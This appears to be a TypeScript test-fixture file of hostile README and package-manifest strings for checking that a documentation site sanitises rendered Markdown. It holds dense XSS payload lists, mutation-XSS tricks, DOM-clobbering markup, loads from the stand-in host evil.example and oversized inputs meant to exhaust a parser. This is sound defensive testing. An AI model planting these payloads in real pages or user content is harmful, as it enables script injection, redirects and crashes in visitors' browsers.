/**
 * READMEs that try to run something in the reader's browser, to look like a part of the site, or to break the build.
 */
export const HOSTILE_READMES: Readonly<Record<string, string>> = {
  addresses: `
[a](javascript:hack(1)) [b](JaVaScRiPt:hack(2)) [c](java&#x09;script:hack(3)) [d](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;hack(4))
[e](<java\tscript:hack(5)>) [f](&#1;javascript:hack(6)) [g](data:text/html,<script>hack(7)</script>) [h](vbscript:hack(8))
[i](javascript&colon;hack(9)) [j](javascript&#58hack(10)) [k](feed:javascript:hack(11)) [l](view-source:javascript:hack(12))
<javascript:hack(13)> <data:text/html;base64,PHNjcmlwdD5oYWNrKDE0KTwvc2NyaXB0Pg==>

[reference][r] [r] [other][R2] ![picture][r]

[r]: javascript:hack(15)
[r2]: <java\tscript:hack(16)> "title" 

A footnote[^1] and another[^frame].

[^1]: [note](javascript:hack(17)) <img src=x onerror=hack(18)>
[^frame]: <script>hack(19)</script>

<a href="jav&#x0A;ascript:hack(20)">a</a> <a href=" &#14;  javascript:hack(21)">b</a> <a href="javascript:hack(22)" target="_blank">c</a>
<a xlink:href="javascript:hack(23)">d</a> <a href="data:text/html,<script>hack(24)</script>">e</a> <a ping="https://evil.example/p" href="#x">f</a>
<area href="javascript:hack(25)"> <base href="https://evil.example/"> <link rel="stylesheet" href="https://evil.example/s.css">
<meta http-equiv="refresh" content="0;url=https://evil.example/"> <a href="//evil.example">g</a> <a href="/\\evil.example">h</a>

![x](javascript:hack(26)) ![y](data:image/svg+xml,%3Csvg%20onload=hack(27)%3E) <img src="javascript:hack(28)"> <img srcset="https://evil.example/t.png 1x">
`,
  elements: `
<script>hack(1)</script><script src="https://evil.example/s.js"></script><SCRIPT/XSS>hack(2)</SCRIPT>
<img src=x onerror=hack(3)><img src="x" ONERROR="hack(4)"><img/src=x/onerror=hack(5)>

<svg onload=hack(6)><script>hack(7)</script><a xlink:href="javascript:hack(8)"><text>a</text></a><use href="data:image/svg+xml,x#y"/></svg>

<math href="javascript:hack(9)"><maction actiontype="statusline#https://evil.example" xlink:href="javascript:hack(10)">a</maction></math>

<iframe src="javascript:hack(11)" srcdoc="<script>parent.hack(12)</script>"></iframe><object data="javascript:hack(13)"></object><embed src="javascript:hack(14)">

<form action="javascript:hack(15)"><input autofocus onfocus=hack(16)><button formaction="javascript:hack(17)">a</button><select autofocus onfocus=hack(18)></select><textarea autofocus onfocus=hack(19)></textarea></form>

<video src=x onerror=hack(20)></video><audio src=x onerror=hack(21)></audio><video><source onerror=hack(22)></video>

<details open ontoggle=hack(23)><summary onclick=hack(24)>a</summary>b</details><marquee onstart=hack(25)>c</marquee>
<body onload=hack(26)><div onpointerenter=hack(27) style="position:fixed;inset:0;background:url(https://evil.example/b)">d</div>

<style>* { background: url(https://evil.example/c) } @import "https://evil.example/d.css";</style><p style="animation: x" onanimationstart=hack(28)>e</p>

<dialog open>f</dialog><div popover id="pop">g</div><button popovertarget="pop">h</button><portal src="https://evil.example"></portal>
<template shadowrootmode="open"><script>hack(29)</script></template><slot name="x"></slot><custom-element onclick="hack(30)">i</custom-element>
`,
  mutation: `
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hack(1)&gt;">

<svg></p><style><a id="</style><img src=1 onerror=hack(2)>">

<noscript><p title="</noscript><img src=x onerror=hack(3)>">

<form><math><mtext></form><form><mglyph><style></math><img src onerror=hack(4)>

<listing>&lt;img onerror="hack(5)" src=new&gt;</listing><xmp><img src=x onerror=hack(6)></xmp><plaintext><img src=x onerror=hack(7)>

`,
  "mutation-more": `
<p id="</p><script>hack(8)</script>">a</p> <b title="\`\`><img src=x onerror=hack(9)>">b</b>
<![CDATA[<img src=x onerror=hack(10)>]]> <!--><img src=x onerror=hack(11)>--> <!-- --!><img src=x onerror=hack(12)> -->
<?xml version="1.0"?><img src=x onerror=hack(13)> <!DOCTYPE x [<!ENTITY y "<img src=x onerror=hack(14)>">]>&y;
<table><a href="javascript:hack(15)"><tr><td><a href="javascript:hack(16)">c</table>
<select><option><style></option></select><img src=x onerror=hack(17)></style>
<title>&lt;/title&gt;&lt;img src=x onerror=hack(18)&gt;</title> <textarea><img src=x onerror=hack(19)></textarea>
<iframe><img src=x onerror=hack(20)></iframe> <noembed><img src=x onerror=hack(21)></noembed>

\`<img src=x onerror=hack(22)>\`

\`\`\`html"><img src=x onerror=hack(23)>
</code></pre><script>hack(24)</script>
\`\`\`

\`\`\`js title="</figcaption><script>hack(25)</script>"
let a = "</script><script>hack(26)</script>";
\`\`\`
`,
  code: `
import hacked from "https://evil.example/m.js"

export const hacked = hack(1)

{process.env} {hack(2)} {{constructor.constructor("hack(3)")()}} \${hack(4)} <%= hack(5) %> {% hack(6) %}

<FilenameTemplate onLoad={hack(7)} /> <Hero /> <div data-island="0"></div> <div data-island='1'>a</div> <Badge {...hack(8)} />

<div dangerouslySetInnerHTML={{ __html: "<img src=x onerror=hack(9)>" }} />

T> An aside with <script>hack(10)</script>

> [!WARNING]
> <img src=x onerror=hack(11)>

<!-- prettier-ignore --><!-- </script><script>hack(12)</script> -->

:tada: :<script>hack(13)</script>:
`,
  data: `
# </script><script>hack(1)</script>

## </title><script>hack(2)</script> \\u003c/script>

## \`</script><img src=x onerror=hack(3)>\`

## "><svg onload=hack(4)> {#"onmouseover="hack(5)}

### <img src=x onerror=hack(6)> 'quoted' & "double"

## \u2028 line \u2029 separators ]]> <!--

| </td><script>hack(7)</script> | b |
| :-: | - |
| "><script>hack(8)</script> | [a](<"onclick="hack(9)> "' onclick='hack(10)") |
`,
  clobber: `
## Root

## Frame

## Menu

## Content

## process

## require

## Given {#webpackChunkwebpack_docs}

## Twice

## Twice

<a id="root">a</a><a id="frame" href="https://evil.example/frame">b</a><a name="webpackChunkwebpack_docs">c</a><a id="__webpack_require__">d</a>
<img name="getElementById" src="https://images.example/a.png"><img name="body" id="body" src="https://images.example/b.png">
<form id="x" name="cookie"><input name="attributes"><input name="parentNode"></form><object id="documentElement"></object>
<p id="twice">e</p><p id="theme-menu">f</p><p id="announcement">g</p><p class="tabs tabs-labels visually-hidden" hidden inert popover="auto">h</p>

[own](#Root) [top](#top) [frame](#frame)

<div role="dialog" aria-modal="true" aria-hidden="true" tabindex="1" contenteditable accesskey="x">i</div>
`,
  nesting: nested(),
  quotes: ">".repeat(1_000_000),
  strong: "**".repeat(500_000),
  brackets: `${"![".repeat(250_000)}a${"](b)".repeat(120_000)}`,
  divisions: "<div>".repeat(200_000),
  formats: "<b>\n".repeat(9000),
  columns: `${"|a".repeat(200_000)}\n${"|-".repeat(200_000)}\n${"|\n".repeat(50_000)}`,
  asides: `[x]: ${"y".repeat(100_000)}\n\n${"T> [a\n\n".repeat(20_000)}`,
  footnotes: `${"a[^1]".repeat(20_000)}\n\n[^1]: b\n`,
  list: `${Array.from({ length: 1400 }, (_, depth) => `${" ".repeat(2 * depth)}- a`).join("\n")}\n`,
};

/** A megabyte of everything nested in everything, below the limits of each kind. */
function nested(): string {
  const block = `${"> ".repeat(90)}${"<b><i>".repeat(10)}${"*a **b ".repeat(600)}[x](javascript:hack(1)) <img src=x onerror=hack(2)>\n\n`;
  return block.repeat(Math.ceil(1_000_000 / block.length));
}

/** Package metadata as hostile as the READMEs. */
export const HOSTILE_MANIFEST: Readonly<Record<string, unknown>> = {
  description: '</script><script>hack(1)</script>"><img src=x onerror=hack(2)>',
  author: 'X (https://github.com/"><script>hack(3)</script>)',
  contributors: ["Y @y", { name: "<script>hack(4)</script>", url: "javascript:hack(5)" }],
  repository: { url: "https://github.com/o/r", directory: '../"><script>hack(6)</script>' },
  homepage: "javascript:hack(7)",
};
